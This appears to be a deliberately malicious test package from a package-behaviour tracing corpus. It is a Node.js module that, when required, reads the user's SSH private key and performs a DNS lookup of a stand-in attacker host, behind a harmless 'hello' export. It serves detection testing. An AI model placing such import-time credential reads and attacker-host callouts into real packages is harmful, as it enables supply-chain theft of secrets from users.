'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// No install script: the behaviour happens at first use, when the package is
// require()d (pkgtrace's "start" phase). Reads ~/.ssh/id_rsa and looks up
// start.attacker.example.
const fs = require('fs');
const os = require('os');
const path = require('path');
const dns = require('dns');

let key = '';
try { key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); } catch (e) { /* ignored */ }
try {
  // Guard: if the lookup is still pending after 3 s, the importing process
  // exits (a stuck resolver would otherwise keep `node -e require(...)` alive).
  const guard = setTimeout(() => process.exit(0), 3000);
  guard.unref();
  dns.lookup('start.attacker.example', () => clearTimeout(guard));
} catch (e) { /* ignored */ }

module.exports = function hello() {
  return key ? 'hello' : 'hello!';
};
